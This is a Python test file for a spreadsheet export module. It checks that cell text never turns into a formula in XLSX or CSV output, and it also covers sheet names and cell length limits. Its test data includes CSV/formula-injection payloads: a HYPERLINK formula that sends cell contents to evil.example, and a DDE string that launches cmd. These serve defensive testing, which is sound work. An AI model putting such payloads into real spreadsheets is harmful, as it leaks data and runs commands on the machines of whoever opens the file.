"""Tables a methodologist opens: nothing in them acts, nothing is lost."""

import csv
import datetime as dt
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from nastavnik.bank.review.spreadsheets import Worksheet, harmless, write_csv, write_xlsx

NASTY = [
    '=HYPERLINK("http://evil.example/"&A1;"нажми")',
    "+7+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "＝1+1",
    "%0A=1",
    "|calc",
    "\ufeff=1+1",
    "\x00=1+1",
]
DAY = dt.date(2026, 11, 20)


@pytest.mark.parametrize("nasty", NASTY)
def test_text_never_becomes_a_formula(nasty: str, tmp_path: Path) -> None:
    table = Worksheet("Практики", [nasty], [[nasty, 5, DAY, None]])

    write_xlsx(tmp_path / "t.xlsx", [table])
    write_csv(tmp_path / "t.csv", table)

    cells = [
        cell for row in openpyxl.load_workbook(tmp_path / "t.xlsx").active for cell in row if cell.value is not None
    ]
    assert [cell.data_type for cell in cells] == ["s", "s", "n", "d"]
    assert cells[1].quotePrefix
    assert b"<f>" not in ZipFile(tmp_path / "t.xlsx").read("xl/worksheets/sheet1.xml")
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as file:
        head, row = csv.reader(file, delimiter=";")
    assert head == [nasty] or head[0].startswith("'")
    assert row[0].startswith("'")
    assert row[1:] == ["5", "2026-11-20", ""]


@given(st.text(max_size=30))
def test_harmless_text_is_the_text(text: str) -> None:
    made = harmless(text)

    assert isinstance(made, str)
    assert len(made.strip()) < 2 or not made.lstrip().startswith(("=", "+", "-", "@"))  # one sign is no formula


@pytest.mark.parametrize("text", ["Два урока вместе", "5 – 7 классы", "«Ключ»", "a=b", "1-2"])
def test_plain_text_stays(text: str, tmp_path: Path) -> None:
    write_xlsx(tmp_path / "t.xlsx", [Worksheet("Т", ["Название"], [[text]])])

    assert openpyxl.load_workbook(tmp_path / "t.xlsx").active["A2"].value == text
    assert harmless(text) == text


def test_several_sheets_with_filters(tmp_path: Path) -> None:
    write_xlsx(
        tmp_path / "t.xlsx", [Worksheet("Новые: [все]/*", ["А", "Б"], [["1", 2]]), Worksheet("Пусто", ["А"], [])]
    )

    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    assert [(sheet.title, sheet.auto_filter.ref, sheet.freeze_panes) for sheet in book] == [
        ("Новые   все   ", "A1:B2", "A2"),
        ("Пусто", "A1:A1", "A2"),
    ]


def test_cell_longer_than_excel_takes(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "t.xlsx", [Worksheet("Т", ["А"], [["я" * 40_000], ["=" * 40_000]])])

    assert [len(row[0].value) for row in openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows(2)] == [
        32_767
    ] * 2
